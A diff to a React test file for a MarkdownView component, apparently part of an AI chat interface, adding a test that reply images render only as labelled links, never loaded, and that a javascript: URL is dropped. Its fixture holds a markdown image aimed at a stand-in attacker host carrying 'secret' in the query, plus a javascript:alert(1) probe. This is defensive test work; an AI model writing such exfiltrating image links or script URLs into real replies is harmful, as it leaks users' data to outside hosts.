@@ -10,6 +10,27 @@ const REPLY = ['# Title', '', 'Intro with **bold**.', '', '```ts', 'const a = 1;
 
 
 describe('MarkdownView', () => {
+  it('never loads an image a reply names: it is a link to open in a tab, with its description and host', () => {
+    const text = 'A chart ![sales by month](https://evil.example/c.png?q=secret) and ![](/local.png), ![x](javascript:alert(1)).\n\nDone.';
+    // Settled while the reply streams, settled at its end, and the streaming tail.
+    const cases: Array<[string, boolean]> = [
+      [text, true],
+      [text, false],
+      [text.split('\n\n')[0]!, true],
+    ];
+    for (const [shown, streaming] of cases) {
+      const { container, unmount } = render(<MarkdownView text={shown} streaming={streaming} />);
+      expect(container.querySelector('img')).toBeNull();
+      const links = screen.getAllByRole('link');
+      expect(links.map((link) => [link.textContent, link.getAttribute('href'), link.getAttribute('target'), link.getAttribute('rel')])).toEqual([
+        ['Image: sales by month (evil.example)', 'https://evil.example/c.png?q=secret', '_blank', 'noopener noreferrer nofollow'],
+        ['Image: no description', '/local.png', '_blank', 'noopener noreferrer nofollow'],
+      ]);
+      expect(container.querySelector('p')?.textContent).toBe('A chart Image: sales by month (evil.example) and Image: no description, Image: x.');
+      unmount();
+    }
+  });
+
   it("names a task list's boxes, read-only with their state, and lets a keyboard reach what scrolls sideways", () => {
     const text = ['- [x] Ship it', '- [ ] Tell people', '', '```ts', 'const a = 1;', '```', '', '| a |', '|---|', '| 1 |', '', '$$', 'x^2', '$$'].join('\n');
     // Streamed, then settled: the live and the settled maps both.
